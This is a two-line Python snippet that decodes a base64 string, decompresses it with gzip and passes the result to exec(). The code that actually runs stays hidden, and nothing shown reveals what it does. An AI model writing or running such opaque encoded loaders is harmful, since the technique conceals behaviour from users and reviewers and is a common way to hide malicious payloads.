import gzip, base64
exec(gzip.decompress(base64.b64decode('H4sIAJQ1A2sC/8vMLcgvKlHIL7bOL9YrriwuSc3VUE8uLcpRyCgpKbDS1zcyMNYz0DM0NNaz1E+sKc5Q1wQAuklUdDMAAAA=')))
